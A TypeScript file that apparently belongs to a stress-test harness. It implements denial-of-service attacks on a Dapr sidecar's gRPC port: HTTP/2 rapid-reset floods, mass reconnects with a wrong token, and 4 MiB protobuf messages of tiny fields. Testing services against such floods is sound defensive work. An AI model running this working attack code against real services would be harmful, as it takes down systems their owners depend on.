import type { Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

import type { Attack } from '../attack';
import { openSockets, pour } from '../attack-sockets';
import {
  AnsweredStreams,
  body,
  callHeaders,
  message,
  openHttp2,
  preface,
  reset,
} from '../http2-frames';

const DAPR = '/dapr.proto.runtime.v1.Dapr';
const TRY_LOCK = `${DAPR}/TryLockAlpha1`;
const STRANGER = { 'dapr-api-token': 'guessed' };

const ATTACK_MS = { small: 2000, full: 5000 } as const;

/** Calls that are begun and cancelled in one piece; the first is stream 3. */
function rapidly(
  headers: Readonly<Record<string, string>>,
  count: number,
  path = TRY_LOCK,
): Buffer {
  return Buffer.concat(
    Array.from({ length: count }, (_, index) => [
      callHeaders(2 * index + 3, path, headers),
      reset(2 * index + 3),
    ]).flat(),
  );
}

/** So many attackers at a time, each with one connection after another. */
async function again(
  { port, attackers, forMs }: { port: number; attackers: number; forMs: number },
  attack: (socket: Socket) => Promise<void>,
): Promise<number> {
  const endsAt = performance.now() + forMs;
  let opened = 0;
  const one = async (): Promise<void> => {
    while (performance.now() < endsAt) {
      const socket = await openHttp2(port).catch(() => undefined);
      if (socket === undefined) continue;
      opened += 1;
      await attack(socket);
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: attackers }, one));
  return opened;
}

/** @param more what the connection is used for, and by whom */
function rapidResets(
  name: string,
  description: string,
  {
    path,
    headers,
    attackers = 20,
    onlyAtFullSize = false,
  }: {
    readonly path?: string;
    readonly headers?: Readonly<Record<string, string>>;
    readonly attackers?: number;
    readonly onlyAtFullSize?: boolean;
  },
): Attack {
  return {
    name,
    description,
    kind: 'stall',
    onlyAtFullSize,
    run: async ({ target, size }) => {
      const bytes = rapidly(headers ?? STRANGER, 2000, path);
      const at = { port: target.grpcPort, attackers, forMs: ATTACK_MS[size] };
      const opened = await again(at, (socket) => pour(socket, bytes, 1000));
      return [{ what: 'connections opened', value: opened, atLeast: 1 }];
    },
  };
}

export const grpcRapidResets: readonly Attack[] = [
  rapidResets(
    'grpc-rapid-resets',
    '20 reconnecting connections begin and cancel calls, wrong token.',
    {},
  ),
  rapidResets('grpc-rapid-resets-health', 'The same with health checks.', {
    path: '/grpc.health.v1.Health/Check',
    headers: {},
    onlyAtFullSize: true,
  }),
  rapidResets('grpc-rapid-resets-many', 'The same as the first over 200 connections at a time.', {
    attackers: 200,
    onlyAtFullSize: true,
  }),
];

/** How long the call by which a connection becomes known may take: the sidecar is busy. */
const KNOWN_WITHIN_MS = 2000;

export const grpcRapidResetsKnown: Attack = {
  name: 'grpc-rapid-resets-known',
  description:
    'One connection after another makes a call with the right token, then begins and cancels 2,000.',
  kind: 'stall',
  needs: { token: true },
  run: async ({ target, size }) => {
    const token = { 'dapr-api-token': target.token ?? '' };
    const call = Buffer.concat([
      callHeaders(1, `${DAPR}/GetMetadata`, token),
      body(1, message(Buffer.alloc(0)), true),
    ]);
    const bytes = rapidly(token, 2000);
    let known = 0;
    const at = { port: target.grpcPort, attackers: 1, forMs: ATTACK_MS[size] };
    await again(at, async (socket) => {
      const answers = new AnsweredStreams(socket);
      socket.write(call);
      const until = performance.now() + KNOWN_WITHIN_MS;
      while (!answers.ended.has(1) && performance.now() < until) await pause(5);
      if (!answers.ended.has(1)) return;
      known += 1;
      await pour(socket, bytes, 1000);
    });
    return [{ what: 'connections that were known', value: known, atLeast: 1 }];
  },
};

export const grpcResetsAtOnce: Attack = {
  name: 'grpc-resets-at-once',
  description: '500 connections are opened first; then all of them begin and cancel calls at once.',
  kind: 'stall',
  run: async ({ target, size }) => {
    const sockets = await openSockets(target.grpcPort, size === 'full' ? 500 : 100);
    for (const socket of sockets) socket.write(preface());
    await pause(500);
    const bytes = rapidly(STRANGER, 2000);
    await Promise.all(sockets.map((socket) => pour(socket, bytes, 3000)));
    await pause(1000);
    return undefined;
  },
};

export const grpcReconnects: Attack = {
  name: 'grpc-reconnects',
  description:
    '100 clients connect, make one call with a wrong token and are gone, again and again.',
  kind: 'stall',
  run: async ({ target, size }) => {
    const bytes = Buffer.concat([
      callHeaders(1, TRY_LOCK, STRANGER),
      body(1, message(Buffer.alloc(0)), true),
    ]);
    const at = { port: target.grpcPort, attackers: 100, forMs: ATTACK_MS[size] };
    const opened = await again(at, async (socket) => {
      await pour(socket, bytes, 1000);
      await pause(1);
    });
    return [{ what: 'connections opened', value: opened, atLeast: 1 }];
  },
};

/** One message of 4 MiB of fields as small as they come, by what they are. */
const TINY: Readonly<Record<string, Buffer>> = {
  unknown: Buffer.alloc(4_194_000, Buffer.from([0x78, 0x01])),
  repeated: Buffer.alloc(4_194_000, Buffer.from([0x0a, 0x00])),
  groups: Buffer.alloc(4_194_000, Buffer.from([0x7b, 0x7c])),
  nested: Buffer.alloc(4_194_000, 0x7b),
};

/** Messages of each kind to each method. */
const MESSAGES = { small: 5, full: 20 } as const;

export const grpcTinyFields: Attack = {
  name: 'grpc-tiny-fields',
  description: 'Twenty messages of 4 MiB of empty fields to each method, right token.',
  kind: 'stall',
  needs: { token: true },
  run: async ({ target, size }) => {
    const token = { 'dapr-api-token': target.token ?? '' };
    const paths = ['TryLockAlpha1', 'UnlockAlpha1', 'SetMetadata', 'GetMetadata'].map(
      (name) => `${DAPR}/${name}`,
    );
    paths.push('/grpc.health.v1.Health/Check');
    paths.push('/grpc.reflection.v1.ServerReflection/ServerReflectionInfo');
    for (const path of paths) {
      for (const bytes of Object.values(TINY)) {
        const socket = await openHttp2(target.grpcPort);
        const endsAt = performance.now() + 1000;
        for (let sent = 0; sent < MESSAGES[size] && performance.now() < endsAt; sent += 1) {
          const stream = 2 * sent + 1;
          const call = [callHeaders(stream, path, token), body(stream, message(bytes), true)];
          await pour(socket, Buffer.concat(call), endsAt - performance.now());
        }
        socket.destroy();
      }
    }
    return undefined;
  },
};
